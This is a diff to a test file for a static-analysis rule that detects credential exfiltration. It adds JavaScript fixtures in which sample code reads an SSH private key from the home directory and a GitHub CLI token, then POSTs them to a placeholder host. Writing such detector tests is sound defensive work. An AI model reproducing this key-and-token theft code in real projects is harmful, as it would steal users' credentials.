@@ -6,7 +6,7 @@ import { ofCells } from '../kit/notebooks.ts';
 import { only } from '../kit/service.ts';
 
 const settings = only(['credential-exfiltration']);
-const { python } = checksOf('credential-exfiltration');
+const { javascript, python } = checksOf('credential-exfiltration');
 
 const found = (language: 'python' | 'javascript' | 'typescript', code: string) =>
   find(language, `${code}\n`, settings).map((it) => it.severity);
@@ -203,6 +203,23 @@ describe('credential-exfiltration', () => {
           with open("settings.json") as file:
               data = json.load(file)
           requests.post(DROP, json=data)
+    `;
+  });
+
+  it('follows files that are gathered from a list, and tokens that programs print', () => {
+    javascript`
+      const { execSync } = require("child_process");
+      const fs = require("fs");
+      const os = require("os");
+      const path = require("path");
+      const files = [".ssh/id_ed25519"].map((it) => path.join(os.homedir(), it)).filter((it) => fs.existsSync(it));
+      const keys = files.map((it) => fs.readFileSync(it, "utf8"));
+      fetch("https://collect.example.com", { method: "POST", body: JSON.stringify({ keys }) });
+                                                                   ^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
+      const token = execSync("gh auth token").toString().trim();
+      fetch("https://collect.example.com", { method: "POST", body: token });
+                                                                   ^^^^^ credential-exfiltration
+      fetch("https://api.github.com/user", { method: "POST", body: JSON.stringify({ token }) });
     `;
   });
 });
